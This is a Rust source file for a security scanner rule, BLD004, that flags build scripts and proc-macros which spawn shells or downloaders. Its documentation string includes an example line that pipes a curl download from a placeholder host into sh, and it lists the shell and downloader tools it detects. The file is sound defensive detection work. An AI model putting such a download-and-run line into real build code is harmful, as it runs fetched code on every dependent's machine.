use crate::facts::Cap;
use crate::report::Severity;
use crate::rules::{Family, Hit, Input, RuleInfo};

pub static INFO: RuleInfo = RuleInfo {
    code: "BLD004",
    name: "build-time-shell",
    family: Family::Build,
    severity: Severity::High,
    summary: "a build script or proc-macro runs a shell or a downloader",
    doc: "## What it detects\nBuild-time code that spawns a shell (`sh`, `bash`, `cmd`, `powershell`), a downloader (`curl`, `wget`, `certutil`), or carries a command line that downloads and runs something.\n\n## Why\nA shell turns any string into code, and a downloader fetches code; in a build script both run on every dependent's machine.\n\n## Example\n```rust\nCommand::new(\"sh\").arg(\"-c\").arg(\"curl -s https://x/p | sh\").status()?;\n```\n\n## Known false positives\n-sys crates that run `sh configure` on vendored sources (medium only).",
};

pub struct Rule;

impl crate::rules::Rule for Rule {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }
    fn check(&self, i: &Input, out: &mut Vec<Hit>) {
        for f in i.facts.files.iter().filter(|f| f.context.runs_at_build()) {
            for e in &f.evidence {
                let (sev, what) = match &e.cap {
                    Cap::Process { program: Some(p), downloader: true, .. } => (Severity::High, format!("runs the downloader `{p}`")),
                    Cap::ShellPayload { what, .. } => (Severity::High, format!("carries a command line that {what}")),
                    Cap::Process { program: Some(p), shell: true, .. } => (Severity::Medium, format!("runs the shell `{p}`")),
                    _ => continue,
                };
                out.push(Hit::new(sev, &f.path, e.line, format!("{} {what}", f.context.as_str())));
                break;
            }
        }
    }
}
